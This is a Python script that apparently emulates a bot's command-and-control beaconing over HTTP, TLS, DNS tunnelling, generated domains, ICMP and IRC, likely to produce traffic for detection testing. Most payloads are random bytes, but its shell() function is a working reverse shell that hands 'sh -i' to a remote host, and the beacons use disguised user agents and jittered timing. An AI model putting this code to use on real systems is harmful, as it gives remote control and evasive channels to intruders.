"""A command channel's client: comes back again and again. Runs inside the victim's namespace.

Usage: channel.py KIND ADDRESS PORT PERIOD JITTER SECONDS [SNI|-] [SEED]
KIND: http-get http-post https-get https-post raw raw-tls kept kept-tls dns-txt dns-a dns-cname irc shell dga icmp upload upload-tls
"""

import os
import random
import socket
import ssl
import struct
import subprocess
import sys
import time

kind, address, port, period, jitter, seconds = (
    sys.argv[1],
    sys.argv[2],
    int(sys.argv[3]),
    float(sys.argv[4]),
    float(sys.argv[5]),
    float(sys.argv[6]),
)
sni = None if len(sys.argv) < 8 or sys.argv[7] == '-' else sys.argv[7]
draw = random.Random(int(sys.argv[8]) if len(sys.argv) > 8 else 1)
end = time.time() + seconds
IDENTITY = f'{draw.getrandbits(64):016x}'
AGENT = draw.choice(
    (
        'Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko',
        'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1)',
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0',
        'Go-http-client/1.1',
        'curl/8.1',
    )
)
PATH = draw.choice(
    ('/news.php', '/jquery-3.3.1.min.js', '/submit.php', '/login/process.php', '/api/v1/tasks', f'/{draw.getrandbits(32):x}', '/pixel.gif')
)


def connect() -> socket.socket:
    made = socket.create_connection((address, port), 8)
    if 'https' in kind or kind.endswith('-tls'):
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        if draw.random() < 0.5:
            context.maximum_version = ssl.TLSVersion.TLSv1_2
        made = context.wrap_socket(made, server_hostname=sni)
    return made


def http(made: socket.socket) -> None:
    """One look for tasks; at times what a task gave goes back."""
    body = os.urandom(draw.choice((16, 16, 16, 48, 2500))).hex() if 'post' in kind else ''
    method, cookie = ('POST', '') if body else ('GET', f'Cookie: SESSIONID={IDENTITY}{os.urandom(20).hex()}\r\n')
    made.sendall(
        f'{method} {PATH}?id={IDENTITY} HTTP/1.1\r\nHost: {sni or address}\r\nUser-Agent: {AGENT}\r\n{cookie}Content-Length: {len(body)}\r\n\r\n{body}'.encode()
    )
    made.recv(65536)


def raw(made: socket.socket) -> None:
    message = os.urandom(draw.choice((12, 12, 12, 200)))
    made.sendall(len(message).to_bytes(4, 'big') + message)
    made.recv(65536)


def dns() -> None:
    """A message in the labels of a name of the channel's zone, straight to its server."""
    code = {'dns-txt': 16, 'dns-a': 1, 'dns-cname': 5}.get(kind, 1)
    name = (
        f'{os.urandom(draw.choice((8, 24, 30))).hex()[:60]}.{IDENTITY[:6]}.upd-sync.net'
        if kind != 'dga'
        else ''.join(draw.choices('bcdfghjklmnpqrstvwxyzaeiou', k=draw.randint(9, 16)))
        + draw.choice(('.com', '.net', '.info', '.biz', '.ru'))
    )
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.settimeout(2)
    made.sendto(
        struct.pack('>6H', draw.getrandbits(16), 0x0100, 1, 0, 0, 0)
        + b''.join(bytes([len(label)]) + label.encode() for label in name.split('.'))
        + b'\0'
        + struct.pack('>HH', code, 1),
        (address, port),
    )
    try:
        made.recv(4096)
    except TimeoutError:
        pass
    made.close()


def icmp() -> None:
    """Data in echo requests."""
    body = struct.pack('>HH', 77, draw.getrandbits(16)) + os.urandom(draw.choice((40, 400, 900)))
    words = sum(struct.unpack(f'>{len(body) // 2}H', body)) + 0x0800
    words = (words & 0xFFFF) + (words >> 16)
    made = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    made.sendto(struct.pack('>BBH', 8, 0, 0xFFFF - ((words & 0xFFFF) + (words >> 16))) + body, (address, 0))
    made.close()


def once() -> None:
    if kind.startswith('dns') or kind == 'dga':
        return dns()
    if kind == 'icmp':
        return icmp()
    made = connect()
    (http if kind.startswith('http') else raw)(made)
    made.close()


def upload() -> None:
    made = connect()
    for _ in range(60):
        piece = os.urandom(60_000)
        if port == 443:
            made.sendall(f'POST {PATH} HTTP/1.1\r\nHost: {sni or address}\r\nContent-Length: {len(piece)}\r\n\r\n'.encode() + piece)
        else:
            made.sendall(len(piece).to_bytes(4, 'big') + piece)
        made.recv(65536)
        time.sleep(draw.uniform(0.05, 0.4))


def shell() -> None:
    """A reverse shell: a real shell's input and output over the connection."""
    made = socket.create_connection((address, port), 8)
    child = subprocess.Popen(['timeout', str(int(seconds)), 'sh', '-i'], stdin=made.fileno(), stdout=made.fileno(), stderr=made.fileno())
    child.wait()


def irc() -> None:
    made = socket.create_connection((address, port), 8)
    made.sendall(f'NICK [DEU|7|{draw.randrange(99999)}]\r\nUSER bot 0 * :bot\r\nJOIN #rooms\r\n'.encode())
    made.settimeout(1)
    while time.time() < end:
        try:
            for line in made.recv(4096).splitlines():
                made.sendall(
                    b'PONG :irc\r\n'
                    if line.startswith(b'PING')
                    else b'PRIVMSG #rooms :[status] ok up 3d\r\n' if b'!status' in line else b''
                )
        except TimeoutError:
            pass


def kept() -> None:
    made = connect()
    while time.time() < end:
        raw(made)
        time.sleep(period * draw.uniform(1 - jitter, 1 + jitter))


whole = {'upload': upload, 'upload-tls': upload, 'shell': shell, 'irc': irc, 'kept': kept, 'kept-tls': kept}.get(kind)
if whole:
    whole()
while not whole and time.time() < end:
    try:
        once()
    except OSError:
        pass  # a server that is away does not end a bot
    time.sleep(period * draw.uniform(1 - jitter, 1 + jitter))
